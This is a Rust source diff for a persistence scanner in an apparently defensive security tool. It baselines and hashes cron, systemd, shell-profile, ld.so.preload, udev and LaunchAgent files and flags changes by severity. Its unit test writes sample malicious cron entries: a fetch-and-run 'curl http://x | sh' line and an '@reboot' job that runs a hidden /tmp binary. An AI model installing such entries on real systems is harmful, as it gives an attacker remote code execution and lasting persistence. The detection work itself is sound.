@@ -0,0 +1,494 @@
+use std::path::{Path, PathBuf};
+use std::fs;
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::Duration;
+use serde::{Deserialize, Serialize};
+use sha2::{Sha256, Digest};
+use walkdir::WalkDir;
+use uuid::Uuid;
+use chrono::{DateTime, Utc};
+use anyhow::{Result, Context};
+use tracing::{info, warn, debug};
+
+use crate::monitor::{SecurityEvent, SecurityEventType, ProcessInfo, Verdict, FileAccessType};
+
+// Files larger than this are recorded without a hash
+const MAX_HASH_SIZE: u64 = 16 * 1024 * 1024;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum PersistenceCategory {
+    Cron,
+    SystemdUnit,
+    RcScript,
+    ShellProfile,
+    LdPreload,
+    UdevRule,
+    LaunchAgent,
+    LaunchDaemon,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+pub enum PersistenceChange {
+    Added,
+    Modified,
+    Removed,
+}
+
+#[derive(Debug, Clone)]
+pub struct PersistenceLocation {
+    pub path: PathBuf,
+    pub category: PersistenceCategory,
+    pub recursive: bool,
+}
+
+impl PersistenceLocation {
+    pub fn new(path: impl Into<PathBuf>, category: PersistenceCategory, recursive: bool) -> Self {
+        Self { path: path.into(), category, recursive }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PersistenceEntry {
+    pub path: PathBuf,
+    pub category: PersistenceCategory,
+    pub sha256_hash: Option<String>,
+    pub size: u64,
+    pub modified: DateTime<Utc>,
+    pub owner_uid: u32,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PersistenceFinding {
+    pub id: String,
+    pub timestamp: DateTime<Utc>,
+    pub change: PersistenceChange,
+    pub severity: Severity,
+    pub entry: PersistenceEntry,
+    pub previous_hash: Option<String>,
+}
+
+impl PersistenceFinding {
+    pub fn to_security_event(&self) -> SecurityEvent {
+        let access_type = match self.change {
+            PersistenceChange::Added => FileAccessType::Create,
+            PersistenceChange::Modified => FileAccessType::Write,
+            PersistenceChange::Removed => FileAccessType::Delete,
+        };
+
+        SecurityEvent {
+            id: self.id.clone(),
+            timestamp: self.timestamp,
+            event_type: SecurityEventType::FileAccess {
+                target_path: self.entry.path.clone(),
+                access_type,
+            },
+            // The writing process is unknown for a periodic scan
+            process_info: ProcessInfo {
+                pid: 0,
+                path: PathBuf::from("unknown"),
+                parent_pid: None,
+                user_id: self.entry.owner_uid,
+                executable_hash: None,
+                command_line: None,
+            },
+            verdict: Verdict::Log,
+            policy_reason: format!(
+                "{:?} persistence entry {:?} ({:?} severity, sha256: {})",
+                self.entry.category,
+                self.change,
+                self.severity,
+                self.entry.sha256_hash.as_deref().unwrap_or("n/a"),
+            ),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PersistenceBaseline {
+    pub created: DateTime<Utc>,
+    pub updated: DateTime<Utc>,
+    pub entries: HashMap<PathBuf, PersistenceEntry>,
+}
+
+pub struct PersistenceScanner {
+    baseline_path: PathBuf,
+    baseline: Arc<Mutex<Option<PersistenceBaseline>>>,
+    locations: Vec<PersistenceLocation>,
+    scan_interval: Duration,
+    running: Arc<Mutex<bool>>,
+    event_handler: Arc<dyn Fn(PersistenceFinding) + Send + Sync>,
+}
+
+impl PersistenceScanner {
+    pub fn new<F>(baseline_path: PathBuf, event_handler: F) -> Result<Self>
+    where
+        F: Fn(PersistenceFinding) + Send + Sync + 'static
+    {
+        let baseline = if baseline_path.exists() {
+            let content = fs::read_to_string(&baseline_path)
+                .with_context(|| format!("Failed to read persistence baseline {:?}", baseline_path))?;
+            Some(serde_json::from_str(&content)
+                .with_context(|| format!("Failed to parse persistence baseline {:?}", baseline_path))?)
+        } else {
+            None
+        };
+
+        Ok(Self {
+            baseline_path,
+            baseline: Arc::new(Mutex::new(baseline)),
+            locations: Self::default_locations(),
+            scan_interval: Duration::from_secs(900),
+            running: Arc::new(Mutex::new(false)),
+            event_handler: Arc::new(event_handler),
+        })
+    }
+
+    pub fn set_locations(&mut self, locations: Vec<PersistenceLocation>) {
+        self.locations = locations;
+    }
+
+    pub fn set_scan_interval(&mut self, interval: Duration) {
+        self.scan_interval = interval;
+    }
+
+    #[cfg(target_os = "macos")]
+    pub fn default_locations() -> Vec<PersistenceLocation> {
+        use PersistenceCategory::*;
+
+        let mut locations = vec![
+            PersistenceLocation::new("/Library/LaunchAgents", LaunchAgent, false),
+            PersistenceLocation::new("/Library/LaunchDaemons", LaunchDaemon, false),
+            PersistenceLocation::new("/System/Library/LaunchAgents", LaunchAgent, false),
+            PersistenceLocation::new("/System/Library/LaunchDaemons", LaunchDaemon, false),
+            PersistenceLocation::new("/usr/lib/cron/tabs", Cron, false),
+            PersistenceLocation::new("/etc/periodic", Cron, true),
+            PersistenceLocation::new("/etc/profile", ShellProfile, false),
+            PersistenceLocation::new("/etc/zshrc", ShellProfile, false),
+            PersistenceLocation::new("/etc/bashrc", ShellProfile, false),
+        ];
+
+        for home in Self::home_directories(Path::new("/Users")) {
+            locations.push(PersistenceLocation::new(home.join("Library/LaunchAgents"), LaunchAgent, false));
+            for profile in [".zshrc", ".zprofile", ".bash_profile", ".bashrc", ".profile"] {
+                locations.push(PersistenceLocation::new(home.join(profile), ShellProfile, false));
+            }
+        }
+
+        locations
+    }
+
+    #[cfg(not(target_os = "macos"))]
+    pub fn default_locations() -> Vec<PersistenceLocation> {
+        use PersistenceCategory::*;
+
+        let mut locations = vec![
+            // Scheduled tasks
+            PersistenceLocation::new("/etc/crontab", Cron, false),
+            PersistenceLocation::new("/etc/anacrontab", Cron, false),
+            PersistenceLocation::new("/etc/cron.d", Cron, false),
+            PersistenceLocation::new("/etc/cron.hourly", Cron, false),
+            PersistenceLocation::new("/etc/cron.daily", Cron, false),
+            PersistenceLocation::new("/etc/cron.weekly", Cron, false),
+            PersistenceLocation::new("/etc/cron.monthly", Cron, false),
+            PersistenceLocation::new("/var/spool/cron", Cron, true),
+            // Service managers
+            PersistenceLocation::new("/etc/systemd/system", SystemdUnit, true),
+            PersistenceLocation::new("/etc/systemd/user", SystemdUnit, true),
+            PersistenceLocation::new("/run/systemd/system", SystemdUnit, true),
+            PersistenceLocation::new("/usr/lib/systemd/system", SystemdUnit, true),
+            PersistenceLocation::new("/lib/systemd/system", SystemdUnit, true),
+            PersistenceLocation::new("/etc/rc.local", RcScript, false),
+            PersistenceLocation::new("/etc/init.d", RcScript, false),
+            PersistenceLocation::new("/etc/rc.d", RcScript, true),
+            // Login shells
+            PersistenceLocation::new("/etc/profile", ShellProfile, false),
+            PersistenceLocation::new("/etc/profile.d", ShellProfile, false),
+            PersistenceLocation::new("/etc/bash.bashrc", ShellProfile, false),
+            PersistenceLocation::new("/etc/bashrc", ShellProfile, false),
+            PersistenceLocation::new("/etc/zsh/zshrc", ShellProfile, false),
+            PersistenceLocation::new("/etc/environment", ShellProfile, false),
+            // Dynamic linker
+            PersistenceLocation::new("/etc/ld.so.preload", LdPreload, false),
+            PersistenceLocation::new("/etc/ld.so.conf", LdPreload, false),
+            PersistenceLocation::new("/etc/ld.so.conf.d", LdPreload, false),
+            // Device hooks
+            PersistenceLocation::new("/etc/udev/rules.d", UdevRule, false),
+            PersistenceLocation::new("/lib/udev/rules.d", UdevRule, false),
+            PersistenceLocation::new("/usr/lib/udev/rules.d", UdevRule, false),
+        ];
+
+        let mut homes = Self::home_directories(Path::new("/home"));
+        homes.push(PathBuf::from("/root"));
+
+        for home in homes {
+            locations.push(PersistenceLocation::new(home.join(".config/systemd/user"), SystemdUnit, true));
+            locations.push(PersistenceLocation::new(home.join(".config/autostart"), RcScript, false));
+            for profile in [".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zprofile"] {
+                locations.push(PersistenceLocation::new(home.join(profile), ShellProfile, false));
+            }
+        }
+
+        locations
+    }
+
+    fn home_directories(root: &Path) -> Vec<PathBuf> {
+        fs::read_dir(root)
+            .map(|entries| {
+                entries
+                    .filter_map(|e| e.ok())
+                    .map(|e| e.path())
+                    .filter(|p| p.is_dir())
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+
+    // Enumerate all persistence entries currently present on disk
+    pub fn scan(&self) -> Vec<PersistenceEntry> {
+        let mut entries = Vec::new();
+
+        for location in &self.locations {
+            if !location.path.exists() {
+                continue;
+            }
+
+            let max_depth = if location.recursive { 4 } else { 1 };
+            for entry in WalkDir::new(&location.path).max_depth(max_depth) {
+                let entry = match entry {
+                    Ok(entry) => entry,
+                    Err(e) => {
+                        debug!("Error walking {:?}: {}", location.path, e);
+                        continue;
+                    }
+                };
+
+                // Follow symlinks (systemd wants/ directories are mostly links)
+                let metadata = match fs::metadata(entry.path()) {
+                    Ok(m) if m.is_file() => m,
+                    _ => continue,
+                };
+
+                match Self::create_entry(entry.path(), location.category, &metadata) {
+                    Ok(record) => entries.push(record),
+                    Err(e) => debug!("Failed to record persistence entry {:?}: {}", entry.path(), e),
+                }
+            }
+        }
+
+        entries
+    }
+
+    fn create_entry(path: &Path, category: PersistenceCategory, metadata: &fs::Metadata) -> Result<PersistenceEntry> {
+        use std::os::unix::fs::MetadataExt;
+
+        let sha256_hash = if metadata.len() <= MAX_HASH_SIZE {
+            let contents = fs::read(path)
+                .with_context(|| format!("Failed to read {:?}", path))?;
+            let mut hasher = Sha256::new();
+            hasher.update(&contents);
+            Some(hex::encode(hasher.finalize()))
+        } else {
+            None
+        };
+
+        Ok(PersistenceEntry {
+            path: path.to_path_buf(),
+            category,
+            sha256_hash,
+            size: metadata.len(),
+            modified: DateTime::from(metadata.modified()?),
+            owner_uid: metadata.uid(),
+        })
+    }
+
+    // Compare the current state against the baseline. The first run records a baseline and reports nothing.
+    pub fn check(&self) -> Result<Vec<PersistenceFinding>> {
+        let current: HashMap<PathBuf, PersistenceEntry> = self.scan()
+            .into_iter()
+            .map(|entry| (entry.path.clone(), entry))
+            .collect();
+
+        let mut baseline = self.baseline.lock()
+            .map_err(|_| anyhow::anyhow!("Failed to acquire baseline lock"))?;
+
+        let findings = match baseline.as_ref() {
+            Some(existing) => Self::diff(&existing.entries, &current),
+            None => {
+                info!("Creating persistence baseline with {} entries", current.len());
+                Vec::new()
+            }
+        };
+
+        let now = Utc::now();
+        let created = baseline.as_ref().map(|b| b.created).unwrap_or(now);
+        *baseline = Some(PersistenceBaseline {
+            created,
+            updated: now,
+            entries: current,
+        });
+
+        if let Some(ref b) = *baseline {
+            self.save_baseline(b)?;
+        }
+
+        Ok(findings)
+    }
+
+    fn diff(
+        baseline: &HashMap<PathBuf, PersistenceEntry>,
+        current: &HashMap<PathBuf, PersistenceEntry>,
+    ) -> Vec<PersistenceFinding> {
+        let mut findings = Vec::new();
+
+        for (path, entry) in current {
+            match baseline.get(path) {
+                None => findings.push(Self::finding(PersistenceChange::Added, entry.clone(), None)),
+                Some(previous) if previous.sha256_hash != entry.sha256_hash || previous.size != entry.size => {
+                    findings.push(Self::finding(
+                        PersistenceChange::Modified,
+                        entry.clone(),
+                        previous.sha256_hash.clone(),
+                    ));
+                }
+                _ => {}
+            }
+        }
+
+        for (path, previous) in baseline {
+            if !current.contains_key(path) {
+                findings.push(Self::finding(
+                    PersistenceChange::Removed,
+                    previous.clone(),
+                    previous.sha256_hash.clone(),
+                ));
+            }
+        }
+
+        findings
+    }
+
+    fn finding(change: PersistenceChange, entry: PersistenceEntry, previous_hash: Option<String>) -> PersistenceFinding {
+        let severity = match (change, entry.category) {
+            (PersistenceChange::Removed, _) => Severity::Low,
+            (_, PersistenceCategory::LdPreload) => Severity::Critical,
+            (PersistenceChange::Added, _) => Severity::High,
+            (PersistenceChange::Modified, _) => Severity::Medium,
+        };
+
+        PersistenceFinding {
+            id: Uuid::new_v4().to_string(),
+            timestamp: Utc::now(),
+            change,
+            severity,
+            entry,
+            previous_hash,
+        }
+    }
+
+    fn save_baseline(&self, baseline: &PersistenceBaseline) -> Result<()> {
+        if let Some(parent) = self.baseline_path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+
+        let content = serde_json::to_string_pretty(baseline)?;
+        fs::write(&self.baseline_path, content)
+            .with_context(|| format!("Failed to write persistence baseline {:?}", self.baseline_path))?;
+        Ok(())
+    }
+
+    // Start periodic scanning in a background thread
+    pub fn start(&self) -> Result<()> {
+        {
+            let mut running = self.running.lock().unwrap();
+            if *running {
+                return Ok(());
+            }
+            *running = true;
+        }
+
+        let scanner = PersistenceScanner {
+            baseline_path: self.baseline_path.clone(),
+            baseline: Arc::clone(&self.baseline),
+            locations: self.locations.clone(),
+            scan_interval: self.scan_interval,
+            running: Arc::clone(&self.running),
+            event_handler: Arc::clone(&self.event_handler),
+        };
+
+        thread::spawn(move || {
+            info!("Persistence scanner started (interval: {:?})", scanner.scan_interval);
+
+            while *scanner.running.lock().unwrap() {
+                match scanner.check() {
+                    Ok(findings) => {
+                        for finding in findings {
+                            if finding.severity >= Severity::High {
+                                warn!("Persistence {:?}: {:?} ({:?})",
+                                      finding.change, finding.entry.path, finding.entry.category);
+                            }
+                            (scanner.event_handler)(finding);
+                        }
+                    }
+                    Err(e) => warn!("Persistence scan failed: {}", e),
+                }
+
+                // Sleep in short steps so stop() takes effect promptly
+                let mut waited = Duration::ZERO;
+                while waited < scanner.scan_interval && *scanner.running.lock().unwrap() {
+                    thread::sleep(Duration::from_secs(1));
+                    waited += Duration::from_secs(1);
+                }
+            }
+
+            info!("Persistence scanner stopped");
+        });
+
+        Ok(())
+    }
+
+    pub fn stop(&self) {
+        *self.running.lock().unwrap() = false;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_detects_new_and_modified_entries() {
+        let dir = std::env::temp_dir().join(format!("fluxdefense-persistence-{}", Uuid::new_v4()));
+        let cron_dir = dir.join("cron.d");
+        fs::create_dir_all(&cron_dir).unwrap();
+        fs::write(cron_dir.join("backup"), "0 2 * * * root /usr/bin/backup\n").unwrap();
+
+        let mut scanner = PersistenceScanner::new(dir.join("baseline.json"), |_| {}).unwrap();
+        scanner.set_locations(vec![PersistenceLocation::new(&cron_dir, PersistenceCategory::Cron, false)]);
+
+        // First check only records the baseline
+        assert!(scanner.check().unwrap().is_empty());
+
+        fs::write(cron_dir.join("backup"), "* * * * * root curl http://x | sh\n").unwrap();
+        fs::write(cron_dir.join("updater"), "@reboot root /tmp/.x\n").unwrap();
+
+        let findings = scanner.check().unwrap();
+        assert_eq!(findings.len(), 2);
+
+        let added = findings.iter().find(|f| f.change == PersistenceChange::Added).unwrap();
+        assert_eq!(added.severity, Severity::High);
+        assert!(added.entry.sha256_hash.is_some());
+        assert!(findings.iter().any(|f| f.change == PersistenceChange::Modified && f.previous_hash.is_some()));
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}